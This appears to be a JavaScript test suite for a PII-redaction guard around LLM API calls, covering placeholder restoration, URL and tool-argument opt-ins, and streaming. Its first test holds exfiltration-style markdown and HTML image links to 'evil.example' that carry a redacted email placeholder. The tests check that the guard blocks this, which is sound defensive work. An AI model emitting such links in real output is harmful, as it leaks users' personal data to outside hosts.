// Restore through the guard (issue 17): no values in URLs unless the app allows the URL,
// tool-call arguments only on request, and streamed answers that flow as they arrive.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createGuard, PiiAirlockConfigError } from '../../pkg/node.js';

const URL_ = 'https://llm.example/v1/chat/completions';
const ASK = { version: 1, id: 'ask-all', defaultAction: 'ask' };
const chat = (content, extra = {}) => JSON.stringify({ model: 'm', messages: [{ role: 'user', content }], ...extra });

test('answers get no values in URLs; schemes and tool arguments only when the app opts in', async () => {
  const answer = {
    choices: [{
      message: {
        content: 'Hi [EMAIL_ADDRESS_1] ![x](https://evil.example/?e=[EMAIL_ADDRESS_1]) [m](mailto:[EMAIL_ADDRESS_1])',
        tool_calls: [{ function: { name: 'send', arguments: '{"to":"[EMAIL_ADDRESS_1]"}' } }],
      },
    }],
  };
  const cases = [
    [undefined, false],
    [{ urlSchemes: ['mailto'], toolArguments: true }, true],
  ];
  for (const [restore, optedIn] of cases) {
    const g = await createGuard({ policy: ASK, ...(restore ? { restore } : {}) });
    const f = g.guardFetch(async () => new Response(JSON.stringify(answer), { headers: { 'content-type': 'application/json' } }));
    const json = await (await f(URL_, { method: 'POST', body: chat('mail jane@example.com') })).json();
    const m = json.choices[0].message;
    assert.ok(m.content.startsWith('Hi jane@example.com ![x](https://evil.example/?e=[EMAIL_ADDRESS_1]) '), m.content);
    assert.equal(m.content.endsWith('(mailto:jane@example.com)'), optedIn, m.content);
    assert.equal(JSON.parse(m.tool_calls[0].function.arguments).to, optedIn ? 'jane@example.com' : '[EMAIL_ADDRESS_1]');
    assert.equal(g.restore('<img src="https://evil.example/[EMAIL_ADDRESS_1]">'), '<img src="https://evil.example/[EMAIL_ADDRESS_1]">');
    g.dispose();
  }
  await assert.rejects(createGuard({ policy: ASK, restore: { urlOrigins: ['evil.example'] } }), PiiAirlockConfigError);
  await assert.rejects(createGuard({ policy: ASK, restore: { everywhere: true } }), PiiAirlockConfigError);
});

test('a streamed answer without placeholders reaches the app event by event', async () => {
  const g = await createGuard({ policy: ASK });
  const enc = new TextEncoder();
  let ctl;
  const body = new ReadableStream({ start(c) { ctl = c; } });
  const f = g.guardFetch(async () => new Response(body, { headers: { 'content-type': 'text/event-stream' } }));
  const res = await f(URL_, { method: 'POST', body: chat('mail jane@example.com', { stream: true }) });
  const reader = res.body.getReader();
  const dec = new TextDecoder();
  const words = 'The budget was approved and the launch moves to May, as everyone agreed on the call.'.split(' ');
  let got = '';
  for (const w of words) {
    const ev = { choices: [{ index: 0, delta: { content: `${w} ` }, finish_reason: null }] };
    ctl.enqueue(enc.encode(`data: ${JSON.stringify(ev)}\n\n`));
    // Each event comes out before the next one is sent (the old restorer held back 129
    // characters: this read would wait for ever).
    let timer;
    const { value } = await Promise.race([
      reader.read(),
      new Promise((_, reject) => { timer = setTimeout(() => reject(new Error(`"${w}" was held back`)), 2000); }),
    ]);
    clearTimeout(timer);
    const text = dec.decode(value);
    const delta = JSON.parse(text.trim().slice(6)).choices[0].delta.content;
    assert.equal(delta, `${w} `);
    got += delta;
  }
  ctl.enqueue(enc.encode('data: [DONE]\n\n'));
  ctl.close();
  while (!(await reader.read()).done);
  assert.equal(got, `${words.join(' ')} `);
  g.dispose();
});

test('an NDJSON answer (Ollama) is restored line by line as it arrives', async () => {
  const g = await createGuard({ policy: ASK });
  const enc = new TextEncoder();
  const dec = new TextDecoder();
  let ctl;
  const body = new ReadableStream({ start(c) { ctl = c; } });
  const f = g.guardFetch(async () => new Response(body, { headers: { 'content-type': 'application/x-ndjson' } }));
  const res = await f('http://localhost:11434/api/chat', {
    method: 'POST',
    body: JSON.stringify({ model: 'llama3', stream: true, messages: [{ role: 'user', content: 'mail jane@example.com' }] }),
  });
  const reader = res.body.getReader();
  const line = (content, done = false) => `${JSON.stringify({ model: 'llama3', message: { role: 'assistant', content }, done })}\n`;
  const read = async (what) => {
    let timer;
    const { value } = await Promise.race([
      reader.read(),
      new Promise((_, reject) => { timer = setTimeout(() => reject(new Error(`${what} was held back`)), 2000); }),
    ]);
    clearTimeout(timer);
    return dec.decode(value);
  };
  // A line without a placeholder flows at once (the old route read the body whole).
  ctl.enqueue(enc.encode(line('Sure, I will write to ')));
  let got = await read('the first line');
  // A placeholder cut across two chunks comes out whole, restored, as JSON.
  const second = line('[EMAIL_ADDRESS_1] today.');
  ctl.enqueue(enc.encode(second.slice(0, 40)));
  ctl.enqueue(enc.encode(second.slice(40)));
  ctl.enqueue(enc.encode(line('', true)));
  ctl.close();
  for (;;) {
    const { value, done } = await reader.read();
    if (done) break;
    got += dec.decode(value);
  }
  const text = got.trim().split('\n').map((l) => JSON.parse(l).message.content).join('');
  assert.equal(text, 'Sure, I will write to jane@example.com today.');
  g.dispose();
});
